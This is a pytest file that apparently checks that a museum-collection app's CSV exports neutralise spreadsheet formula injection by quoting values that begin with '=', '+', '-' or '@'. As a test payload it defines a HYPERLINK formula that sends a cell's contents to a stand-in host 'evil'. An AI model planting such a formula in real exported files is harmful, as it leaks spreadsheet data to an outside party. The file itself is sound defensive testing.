"""Every CSV MUSES writes opens in a spreadsheet as text: a value starting with '=', '+',
'-' or '@' (a museum's name, an object number, a tag name) is not run as a formula."""

import csv
import io

from custom_tagging.models import CustomTag
from muses.collection.models import Item
from muses.csv_export import formula_safe, formula_unquote
from tests.custom_tagging.conftest import RED
from tests.publishing.test_api_prediction_records import body, finished_job

FORMULA = '=HYPERLINK("http://evil/?"&A1,"x")'


def formula_cells(text: str) -> list[str]:
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if cell[:1] in ("=", "+", "-", "@")
    ]


def test_records_csv_writes_museum_names_and_object_numbers_as_text(
    api, trained_tag, add_image, museum_object
):
    trained_tag("red")
    add_image("jar", RED)
    museum_object("+1-1", "jar", museum=FORMULA)
    response = api.get(f"/api/predictions/{finished_job(api)}/records.csv")
    text = body(response)
    assert formula_cells(text) == []
    row = next(csv.DictReader(io.StringIO(text)))
    assert (row["museum"], row["object_number"]) == ("'" + FORMULA, "'+1-1")
    assert Item.objects.get().museum == FORMULA  # the stored value is untouched


def test_the_library_prediction_csv_writes_formula_tag_names_and_image_ids_as_text(
    api, trained_tag, add_image, museum_object
):
    trained_tag("red")
    add_image("-2", RED)
    museum_object("7", "-2")
    CustomTag.objects.filter(name="red").update(name="@SUM(A1)")
    task_id = finished_job(api, tags=["@SUM(A1)"])
    response = api.get(f"/api/predictions/{task_id}/csv")
    text = b"".join(response.streaming_content).decode()
    header = next(csv.reader(io.StringIO(text)))
    assert header == ["image_id", "'@SUM(A1):score", "'@SUM(A1):prediction"]
    assert formula_cells(text) == [] and "\r\n'-2," in text
    # the records export reads the job's CSV back: the tag keeps its name there
    records = list(
        csv.DictReader(io.StringIO(body(api.get(f"/api/predictions/{task_id}/records.csv"))))
    )
    assert records[0]["image_ids"] == "'-2" and records[0]["'@SUM(A1):prediction"] == "1"


def test_a_value_round_trips_through_formula_safe_and_back():
    for value in ("=1+1", "-12", "@x", "\tx", "'=1", "'plain", "plain", ""):
        assert formula_unquote(formula_safe(value)) == value
    assert formula_safe(-0.5) == -0.5  # a number is no formula
